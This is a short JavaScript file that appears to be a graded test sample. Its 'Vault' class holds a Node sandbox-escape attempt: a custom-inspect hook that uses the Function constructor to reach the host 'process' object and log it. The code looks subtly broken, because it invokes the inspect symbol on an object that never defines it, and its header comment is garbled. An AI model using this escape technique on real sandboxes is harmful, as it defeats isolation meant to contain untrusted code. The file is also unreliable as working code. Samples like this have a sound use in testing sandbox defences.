/**
 * Is handed the inspect function of Node through a hook that Node calls, and makes it show what is not for it.
 *
 * @verdict graded 0
 * @without nothing
 */
export class Vault {
  put(name, value) {
    class Shown extends URL {
      get href() {
        return {
          [Symbol.for('nodejs.util.inspect.custom')]: (_depth, _options, inspect) => {
            const found = [inspect.constructor, inspect.custom, inspect.defaultOptions]
            try {
              console.log('a-secret-in-a-file:', inspect.constructor('return process')().pid)
            } catch {}
            return found
          },
        }
      }
    }
    new Shown('http://x/')[Symbol.for('nodejs.util.inspect.custom')](1, { customInspect: true, depth: 5 })
  }
  get() {}
  names() {}
  keep() {}
  onGone() {}
  load() {}
}
